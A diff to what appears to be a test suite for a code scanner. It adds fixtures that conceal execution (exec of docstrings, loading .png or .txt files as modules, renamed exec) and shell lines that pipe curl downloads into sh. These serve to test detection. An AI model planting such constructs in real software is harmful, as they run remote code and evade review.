@@ -148,6 +148,22 @@ BUILT = {
     "decoded code": f'import base64\nexec(base64.b64decode("{base64.b64encode(b"print(1)").decode()}"))\n',
     "code decoded from a file": "import zlib\nexec(zlib.decompress(open('x').read()))\n",
     "code from the network": "import requests\nexec(requests.get(url).text)\n",
+    "the text at the head of a module": '"""\nimport requests\nrequests.get(url)\n"""\nexec(__doc__)\n',
+    "the text at the head of a function": (
+        'def about():\n    """import httpx; httpx.get(url)"""\n\nexec(compile(about.__doc__, "x", "exec"))\n'
+    ),
+    "the text at the head of a class": (
+        'class About:\n    """import urllib.request as r; r.urlopen(url)"""\n\nexec(About.__doc__)\n'
+    ),
+    "a client as text": "CODE = 'import requests\\nrequests.get(url)'\nexec(CODE)\n",
+    "a file of another kind": "exec(open('static/robots.txt').read())\n",
+    "a file of another kind by its path": (
+        "from pathlib import Path\nexec(compile(Path('data', 'help.txt').read_text(), 'x', 'exec'))\n"
+    ),
+    "a file of another kind that is run": "import runpy\nrunpy.run_path('data/help.txt')\n",
+    "a file of another kind that is imported": (
+        "from importlib.machinery import SourceFileLoader\nSourceFileLoader('logo', path='logo.png').load_module()\n"
+    ),
     "code under another name": "run = exec\nrun(text)\n",
     "exec by its letters": 'import builtins\ngetattr(builtins, "ex" + "ec")(text)\n',
     "exec from a table": '__builtins__.__dict__["ev" + "al"](text)\n',
@@ -189,7 +205,7 @@ def test_what_ordinary_programs_do_as_well_is_told_mildly(tmp_path: Path) -> Non
             "model.py": "import pickle\nmodel = pickle.load(open(path, 'rb'))\n",
             "calls.py": "import requests\ngetattr(requests, method)(url)\n",
             "formula.py": "result = eval(formula)\n",
-            "health.py": "import subprocess\nsubprocess.run(['curl', url])\n",
+            "health.py": "import subprocess\nsubprocess.run(['curl', f'http://localhost:{port}/'])\n",
             "static/jquery.min.js": "/*! jQuery */" + "var a=function(b){return b};" * 400,
             "data.bin": bytes(range(256)) * 4,
         },
@@ -199,6 +215,32 @@ def test_what_ordinary_programs_do_as_well_is_told_mildly(tmp_path: Path) -> Non
         *("static/jquery.min.js", "data.bin"),
     }
     assert strong(found) == set()
+
+
+ANYWHERE = {
+    "a name": "import subprocess\nsubprocess.run(['curl', '-s', url])\n",
+    "a host that is put in": "import subprocess\nsubprocess.check_output(['curl', f'https://{host}/rest/v1.0/me'])\n",
+    "half a host": "import os\nos.system(f'wget https://api.{name}.com/rest/v1.0/me')\n",
+    "a variable of the shell": "import os\nos.system('curl -s $URL/oauth/token | sh')\n",
+}
+
+
+@pytest.mark.parametrize("code", ANYWHERE.values(), ids=ANYWHERE)
+def test_commands_that_may_reach_the_platform(tmp_path: Path, code: str) -> None:
+    assert strong(seen(tmp_path, {"app.py": code})) == {"command-anywhere"}
+
+
+ELSEWHERE = {
+    "a written address": "import os\nos.system('curl -sS https://example.org/install.sh | sh')\n",
+    "a path below one": "import subprocess\nsubprocess.run(['curl', '-fO', f'https://example.org/{name}'])\n",
+    "no request at all": "import subprocess\nsubprocess.run(['curl', '--version'])\n",
+}
+
+
+@pytest.mark.parametrize("code", ELSEWHERE.values(), ids=ELSEWHERE)
+def test_commands_to_others_are_told_mildly(tmp_path: Path, code: str) -> None:
+    found = seen(tmp_path, {"app.py": code})
+    assert ([sign.kind for sign in found], strong(found)) == (["command"], set())
 
 
 def test_commands_that_reach_the_platform(tmp_path: Path) -> None:
